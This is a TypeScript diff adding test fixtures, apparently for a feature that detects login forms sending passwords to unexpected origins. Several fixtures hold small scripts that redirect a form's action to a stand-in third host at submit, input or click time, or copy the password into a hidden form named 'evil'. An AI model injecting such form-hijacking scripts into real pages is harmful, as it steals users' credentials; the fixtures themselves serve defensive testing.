@@ -351,6 +351,64 @@ const HONEST: Record<string, Omit<Trick, 'told'>> = {
   },
 };
 
+const THIRD = 'http://127.0.0.1:ELSEWHERE/TAKEN';
+const THERE = `const THIRD = '${THIRD}';`;
+const there = (script: string, page = to(AWAY)) => scripted(`${THERE}${script}`, page);
+
+/** Forms that send to the other origin, which the phone was shown: each is posted there, once, with both values; but for one that goes home. */
+const AGREED: Record<string, Omit<Trick, 'told'> & { home?: true }> = {
+  plain: { html: to(AWAY) },
+  'by-its-button': { html: form(`${FIELDS}<button formaction="${AWAY}" formmethod="post">Sign in</button>`, '') },
+  'by-its-base': { html: based(BASE, 'session') },
+  'in-parts': { html: to(AWAY, 'method="post" enctype="multipart/form-data"') },
+  'in-a-frame': { html: FRAME, frame: to(AWAY) },
+  'in-a-tree': { html: shadow(to(AWAY)) },
+  'after-an-answer': {
+    html: scripted(
+      `on(form, 'submit', async (event) => { event.preventDefault(); await fetch('/plain'); form.submit() })`,
+      to(AWAY),
+    ),
+  },
+  'home-in-the-end': { html: scripted(`on(form, 'submit', () => { form.action = '${HERE}' })`, to(AWAY)), home: true },
+};
+
+/** Forms that the phone was shown the same origin for, and that send elsewhere all the same, or into an address. */
+const BEYOND: Record<string, Trick> = {
+  'to-a-third': origin(to(THIRD)),
+  'to-a-third-by-its-button': origin(
+    form(`${FIELDS}<button formaction="${THIRD}">Sign in</button>`, `method="post" action="${AWAY}"`),
+  ),
+  'to-a-third-by-its-base': origin(based('<base href="http://127.0.0.1:ELSEWHERE/TAKEN/">', 'session')),
+  'to-its-name-at-another-port': origin(to('http://localhost:OWNPORT/TAKEN')),
+  'to-a-third-on-input': origin(there(`on(password, 'input', () => { form.action = THIRD })`)),
+  'to-a-third-on-click': origin(there(`on(button, 'click', () => { form.action = THIRD })`)),
+  'to-a-third-on-submit': origin(there(`on(form, 'submit', () => { form.action = THIRD })`)),
+  'to-a-third-by-a-button-set-on-submit': origin(there(`on(form, 'submit', () => { button.formAction = THIRD })`)),
+  'to-a-third-when-its-values-are-taken': origin(
+    there(`on(form, 'formdata', (event) => { event.stopPropagation(); form.action = THIRD })`),
+  ),
+  'to-a-third-after-an-answer': origin(
+    there(
+      `on(form, 'submit', async (event) => { event.preventDefault(); await fetch('/plain'); form.action = THIRD; form.submit(); window.tried = true })`,
+    ),
+    { late: true },
+  ),
+  'to-a-third-from-a-frame': origin(FRAME, { frame: there(`on(form, 'submit', () => { form.action = THIRD })`) }),
+  'copied-into-a-form-to-a-third': origin(
+    scripted(
+      `on(form, 'submit', (event) => { event.preventDefault(); const evil = document.getElementById('evil'); evil.note.value = password.value; evil.submit() })`,
+      `${to(AWAY)}<form id="evil" method="post" action="${THIRD}"><input type="hidden" name="note"></form>`,
+    ),
+  ),
+  'in-its-address': origin(to(AWAY, 'method="get"')),
+  'in-its-address-without-a-method': origin(to(AWAY, '')),
+  'in-its-address-by-its-button': origin(
+    form(`${FIELDS}<button formmethod="get">Sign in</button>`, `method="post" action="${AWAY}"`),
+  ),
+  'in-its-address-on-click': origin(scripted(`on(button, 'click', () => { form.method = 'get' })`, to(AWAY))),
+  'in-its-address-on-submit': origin(scripted(`on(form, 'submit', () => { form.method = 'get' })`, to(AWAY))),
+};
+
 /** Pages by name, `NAME.frame` for what a frame shows. */
 const pagesOf = (tricks: Record<string, Omit<Trick, 'told'>>): Record<string, string> =>
   Object.fromEntries(
@@ -360,6 +418,8 @@ const pagesOf = (tricks: Record<string, Omit<Trick, 'told'>>): Record<string, st
     }),
   );
 
-export { HONEST, TRICKS };
+export { AGREED, BEYOND, HONEST, TRICKS };
 export const TRICK_PAGES = pagesOf(TRICKS);
 export const HONEST_PAGES = pagesOf(HONEST);
+export const AGREED_PAGES = pagesOf(AGREED);
+export const BEYOND_PAGES = pagesOf(BEYOND);
